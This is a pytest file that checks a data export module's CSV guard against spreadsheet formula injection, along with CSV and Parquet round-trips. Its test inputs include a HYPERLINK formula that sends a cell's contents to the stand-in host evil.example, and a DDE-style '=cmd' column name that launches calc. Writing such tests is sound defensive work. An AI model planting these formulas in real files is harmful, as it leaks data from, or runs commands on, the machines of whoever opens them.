"""Tables on their way out, and back in."""

import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from embedding_core.data.export import to_csv, to_parquet
from embedding_core.data.read import read_table

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, f"'{HYPERLINK}"),
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\n=1", "'\n=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("- a list item", "'- a list item"),
        ("-5", "-5"),
        ("+3.20", "+3.20"),
        ("-1e5", "-1e5"),
        ("a=1", "a=1"),
        ("1-2", "1-2"),
        ("", ""),
        ("'quoted'", "'quoted'"),
    ],
)
def test_formulas_are_guarded(cell: str, written: str) -> None:
    frame = pd.DataFrame({"text": ["first", cell], "n": [1, 2]})
    back = pd.read_csv(io.BytesIO(to_csv(frame)), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert back["text"].tolist() == ["first", written]
    assert frame["text"][1] == cell


def test_names_and_categories_are_guarded_and_numbers_are_not() -> None:
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": ["a", "b"], "n": [-1, -2], "x": [-0.5, np.nan]})
    frame["kind"] = pd.Categorical(["=1", "plain"])
    header, *rows = to_csv(frame).decode("utf-8-sig").splitlines()
    assert header == "'=cmd|' /C calc'!A0,n,x,kind"
    assert rows == ["a,-1,-0.5,'=1", "b,-2,,plain"]


def test_csv_begins_with_a_mark_and_keeps_every_character(tmp_path: Path) -> None:
    texts = [
        'say "hi", then;\tgo',
        "two\nlines",
        "two\r\nlines",
        "a lone\rreturn",
        "é 漢字 😀 שלום",
        "001",
        "NA",
        "null",
    ]
    frame = pd.DataFrame({"text": texts, "n": pd.array([1, None, *range(6)], "Int64")})
    content = to_csv(frame)
    assert content.startswith(b"\xef\xbb\xbf")
    (tmp_path / "out.csv").write_bytes(content)
    back = read_table(tmp_path / "out.csv", "out.csv").frame
    assert back["text"].tolist() == texts
    pd.testing.assert_series_equal(back["n"], frame["n"])


def test_parquet_keeps_every_value_as_it_is(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "text": [HYPERLINK, None],
            "n": pd.array([1, None], "Int64"),
            "x": [-0.5, np.nan],
            "day": pd.to_datetime(["2024-01-01", None]),
            "vector": list(np.eye(2, dtype=np.float32)),
        },
        index=[5, 7],
    )
    content = to_parquet(frame)
    back = pd.read_parquet(io.BytesIO(content))
    assert back["text"][0] == HYPERLINK
    pd.testing.assert_frame_equal(back.drop(columns="vector"), frame.drop(columns="vector").reset_index(drop=True))
    (tmp_path / "out.parquet").write_bytes(content)
    assert read_table(tmp_path / "out.parquet", "out.parquet").frame["text"][0] == HYPERLINK


def test_an_empty_selection_can_be_exported() -> None:
    frame = pd.DataFrame({"text": ["a"], "n": [1]}).iloc[:0]
    assert to_csv(frame) == "\ufefftext,n\r\n".encode()
    assert pd.read_parquet(io.BytesIO(to_parquet(frame))).empty
